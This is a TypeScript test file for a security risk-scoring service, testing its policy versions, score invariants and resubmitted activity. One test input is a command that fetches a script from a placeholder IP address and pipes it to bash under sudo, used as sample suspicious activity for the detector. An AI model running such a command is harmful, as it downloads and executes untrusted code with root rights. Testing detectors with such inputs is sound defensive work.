import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PolicyVersion, RiskFacts } from '../src/domain/risk.ts';
import { assessRisk, currentPolicy, policyVersions } from '../src/domain/risk.ts';
import { integrityPoints } from '../src/domain/session-integrity.ts';
import { data } from './harness/client.ts';
import type { Service } from './harness/service.ts';
import { startService, testClock } from './harness/service.ts';
import { noon } from './risk-facts.ts';

/** The policies an organisation can score by, side by side. */

const grave = { tactic: 'EXECUTION', points: 50, reason: 'does x' };
const persisting = { tactic: 'PERSISTENCE', points: 30, reason: 'does y' };
const minor = { tactic: 'DISCOVERY', points: 10, reason: 'does z' };
const attack = { points: 50, reason: 'tries w' };
const moved = { change: 'NETWORK', from: 'a', to: 'b', points: integrityPoints.NETWORK, at: 0 } as const;

const versions = Object.keys(policyVersions).map(Number) as PolicyVersion[];

describe('risk policy 1 is FEATURES B12 to B14 and nothing else', () => {
  it.each([
    [{}, []],
    [{ elevated: true }, [['SUDO', 20]]],
    [{ permissionChange: true }, [['PERMISSION_CHANGE', 30]]],
    [{ authFailure: true }, [['AUTH_FAILURE', 40]]],
    [{ minute: 6 * 60 - 1 }, [['OUTSIDE_HOURS', 20]]],
    [{ minute: 6 * 60 }, []],
    [{ minute: 22 * 60 - 1 }, []],
    [{ minute: 22 * 60 }, [['OUTSIDE_HOURS', 20]]],
    [{ suspicions: [grave] }, [['SUSPICIOUS_COMMAND', 30]]],
    [{ suspicions: [grave, persisting, minor] }, [['SUSPICIOUS_COMMAND', 30]]],
    [{ suspicions: [minor] }, []],
    [{ webAttacks: [attack] }, []],
    [{ sessionTerminated: true, sessionChanges: [moved] }, []],
    [
      { elevated: true, minute: 0, suspicions: [grave] },
      [
        ['SUDO', 20],
        ['OUTSIDE_HOURS', 20],
        ['SUSPICIOUS_COMMAND', 30],
      ],
    ],
  ] satisfies [Partial<RiskFacts>, [string, number][]][])('%j: %j', (facts, factors) => {
    const risk = assessRisk({ ...noon, ...facts }, 1);
    expect(risk.factors.map(({ code, points }) => [code, points])).toEqual(factors);
    expect(risk.policyVersion).toBe(1);
  });
});

describe('every risk policy', () => {
  const facts = fc.record({
    elevated: fc.boolean(),
    permissionChange: fc.boolean(),
    authFailure: fc.boolean(),
    minute: fc.integer({ min: 0, max: 1_439 }),
    suspicions: fc.array(fc.constantFrom(grave, persisting, minor), { maxLength: 4 }),
    webAttacks: fc.array(fc.constant(attack), { maxLength: 2 }),
    sessionTerminated: fc.boolean(),
    sessionChanges: fc.array(fc.constant(moved), { maxLength: 3 }),
  });

  it.each(versions)('%i: the factors add up to the score, which the same facts always have', (version) => {
    fc.assert(
      fc.property(facts, (given) => {
        const { score, factors } = assessRisk(given, version);
        expect(factors.reduce((sum, { points }) => sum + points, 0)).toBe(score);
        expect(score).toBeLessThanOrEqual(100);
        expect(assessRisk(structuredClone(given), version)).toEqual({ score, factors, policyVersion: version });
      }),
    );
  });
});

describe('an activity that is sent again', () => {
  let service: Service;
  beforeAll(async () => {
    service = await startService({ clock: testClock('2026-10-20T00:00:00Z') });
  });
  afterAll(() => service.close());

  const use = (policyVersion: PolicyVersion) =>
    data(service, 'mutation($v: Int) { updateSettings(input: { policyVersion: $v }) { userErrors { code } } }', { v: policyVersion });
  let users = 0;
  const riskOf = async () => {
    const { trackActivity } = await data(
      service,
      `mutation($input: TrackActivityInput!) { trackActivity(input: $input) {
        receipt { activity { id } risk { score policyVersion factors { code points reason } } } } }`,
      {
        input: {
          user: `user-${(users += 1)}`,
          occurredAt: '2026-10-19T23:00:00Z',
          detail: { terminal: { command: 'sudo sh -c "curl http://192.0.2.1/x | bash"' } },
        },
      },
    );
    return trackActivity.receipt;
  };

  it('has the same score under the same policy, and what was scored keeps its score and its policy', async () => {
    const first = await riskOf();
    expect(first.risk.policyVersion).toBe(currentPolicy);
    await use(1);
    const under1 = await riskOf();
    expect(under1.risk).toMatchObject({ policyVersion: 1, score: 70 });
    await use(currentPolicy);
    expect((await riskOf()).risk).toEqual(first.risk);
    await use(1);
    expect((await riskOf()).risk).toEqual(under1.risk);
    const { node } = await data(
      service,
      'query($id: ID!) { node(id: $id) { ... on TerminalActivity { risk { score policyVersion factors { code points reason } } } } }',
      first.activity,
    );
    expect(node.risk).toEqual(first.risk);
  });
});
